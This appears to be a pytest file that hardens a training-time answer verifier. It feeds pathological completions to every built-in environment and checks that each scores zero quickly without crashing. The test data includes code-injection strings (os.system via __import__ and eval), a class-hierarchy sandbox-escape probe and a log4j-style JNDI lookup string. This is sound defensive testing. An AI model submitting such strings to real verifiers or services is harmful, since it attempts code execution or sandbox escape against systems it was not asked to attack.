"""What a model writes can never hang, crash or run anything in verification.

Each pathological completion is scored by every built-in environment through
the sandboxed verifier pool (as in training) and must score 0 with a reason,
without the checker raising (Verdict.error), within the pool's time bound plus
a margin for the machine: a call that times out returns as soon as it does,
because a spare worker is ready to take the killed one's place.
"""

import os
import time
import uuid

import pytest

from env import Draft, Environment
from env.checker import check_environment
from env.registry import BUILTINS
from rewards import VerifierPool

from builtin_envs import builtin, builtin_spec

MARKER = f"/tmp/selfplay_pwned_{uuid.uuid4().hex}"
TIMEOUT_S = 1.0  # the pool's bound per completion
SECONDS_PER_CASE = TIMEOUT_S + 0.5  # the margin is for a busy 2-core machine; replacement takes milliseconds

PATHOLOGICAL_ANSWERS = {
    "power tower": "9**9**9**9",
    "caret power tower": "9^9^9^9",
    "huge power": "10**10**10",
    "huge power 2": "10**100000",
    "repeated squaring": "2**2**2**2**2**2**2",
    "200k characters": "1" * 200_000,
    "5000 nested parentheses": "(" * 5000 + "1" + ")" * 5000,
    "deep unary minus": "-" * 5000 + "1",
    "code execution": f"__import__('os').system('touch {MARKER}')",
    "eval": f"eval(\"__import__('os').system('touch {MARKER}')\")",
    "exec": "exec('import os')",
    "lambda": "(lambda: 0)()",
    "dunder attribute": "().__class__.__bases__[0].__subclasses__()",
    "nan": "nan",
    "inf": "inf",
    "negative inf": "-inf",
    "sympy infinity": "oo",
    "complex infinity": "zoo",
    "overflowing float": "1e999",
    "full-width digits": "\uff11\uff12\uff13",
    "mathematical bold digits": "\U0001d7cf\U0001d7d0\U0001d7d1",
    "arabic-indic digits": "\u0663\u0664",
    "roman numeral": "\u216b",
    "several answers": "x=3 or x=4",
    "only whitespace": "   \n\t  ",
    "empty": "",
    "control characters": "\x00\x01\x02",
    "right-to-left override": "\u202e321",
    "factorial": "factorial(100000)",
    "division by zero": "1/0",
    "zero to a negative power": "0**-1",
    "huge symbolic power": "(x+1)**1000",
    "python underscore literal": "1_000",
    "hex literal": "0x1F",
    "boolean": "True",
    "list": "[1, 2, 3]",
    "dict": "{'a': 1}",
    "log4j style": "${jndi:ldap://example.com/a}",
    "75-digit number": "9" * 75,
    "unbalanced braces": "\\frac{1}{",
    "number beyond the print limit": "10^3999*10^3999",  # Python cannot print an int over 4,300 digits
    "power of a huge product": "2^(10^4000*10^4000)",
    "symbol times a huge number": "x*10^4000*10^4000",
    "huge number in a function": "sin(10^3999*10^3999)",
    "huge solution": "x = 10^3999*10^3999",
    "brace-less fraction tower": "\\frac" * 200 + "11",
    "superscript tower": "9\u2079\u2079\u2079\u2079",
    "plus-minus soup": "\u00b1" * 100,
    "set soup": "{" * 300 + "}" * 300,
}

RAW_COMPLETIONS = {
    "one million characters": "a" * 1_000_000,
    "ten thousand unclosed tags": "<answer>" * 10_000,
    "two different tagged answers": "<answer>1</answer> or maybe <answer>2</answer>",
    "unbalanced boxed": "\\boxed{" * 1000,
    "not text": None,
}


@pytest.fixture(scope="module")
def pool():
    specs = {name: builtin_spec(name) for name in BUILTINS}
    with VerifierPool(specs, num_workers=2, timeout_s=TIMEOUT_S) as pool:
        environment, problem = _problem("arithmetic")
        pool.verify([(problem, environment.reference_completion(problem))])  # start the workers outside the timings
        yield pool
        assert pool.error_count == 0, pool.errors[:3]


def _problem(name):
    """A problem whose reference answer is none of the pathological strings (e.g. not the roots 3 and 4)."""
    environment = builtin(name)
    for index in range(100):
        problem = environment.problem(seed=7, index=index, difficulty=environment.difficulties[-1])
        if not any(ch in problem.answer for ch in "34"):
            return environment, problem
    return environment, problem


@pytest.mark.parametrize("env_name", sorted(BUILTINS))
@pytest.mark.parametrize("case", sorted(PATHOLOGICAL_ANSWERS))
def test_pathological_answer_scores_zero_quickly(pool, env_name, case):
    environment, problem = _problem(env_name)
    completion = environment.answer_format.render(PATHOLOGICAL_ANSWERS[case])
    started = time.monotonic()
    verdict = pool.verify([(problem, completion)])[0]
    assert time.monotonic() - started < SECONDS_PER_CASE
    assert (verdict.score, verdict.error) == (0.0, False), verdict
    assert verdict.reason
    assert not os.path.exists(MARKER)


@pytest.mark.parametrize("env_name", sorted(BUILTINS))
@pytest.mark.parametrize("case", sorted(RAW_COMPLETIONS))
def test_pathological_completion_scores_zero_quickly(pool, env_name, case):
    _, problem = _problem(env_name)
    started = time.monotonic()
    verdict = pool.verify([(problem, RAW_COMPLETIONS[case])])[0]
    assert time.monotonic() - started < SECONDS_PER_CASE
    assert (verdict.score, verdict.error, bool(verdict.reason)) == (0.0, False, True), verdict


def test_a_batch_of_all_cases_completes_and_keeps_correct_answers(pool):
    environment, problem = _problem("arithmetic")
    bad = [environment.answer_format.render(answer) for answer in PATHOLOGICAL_ANSWERS.values()]
    good = environment.reference_completion(problem)
    verdicts = pool.verify([(problem, text) for text in [good, *bad, good]])
    assert [v.score for v in verdicts] == [1.0] + [0.0] * len(bad) + [1.0]


class _RaisesOnWrongAnswers(Environment):
    """A plugin with a bug: its checker raises on any answer but the right one."""

    name = "raises_on_wrong_answers"
    description = "Repeat the number; the checker has a bug."
    levels = {1: 1000}

    def generate(self, rng, level):
        number = rng.randrange(level)
        return Draft(question=f"Repeat {number}.", answer=str(number))

    def score(self, answer, problem):
        return {problem.answer: True}[answer]  # KeyError for every other answer


def test_a_raising_checker_scores_zero_flagged_as_an_error_in_process():
    environment = _RaisesOnWrongAnswers()
    problem = environment.problem(seed=0, index=0)
    assert environment.verify(problem, environment.reference_completion(problem)).score == 1.0
    verdict = environment.verify(problem, "<answer>not it</answer>")
    assert (verdict.score, verdict.error) == (0.0, True)
    assert verdict.reason == "verifier raised KeyError: 'not it'"
    assert "in score" in verdict.traceback and "KeyError" in verdict.traceback


def test_the_conformance_checker_still_reports_a_raising_checker():
    failures = [result for result in check_environment(_RaisesOnWrongAnswers(), num_problems=3) if not result.passed]
    assert failures and all("raised: verifier raised KeyError" in result.detail for result in failures), failures
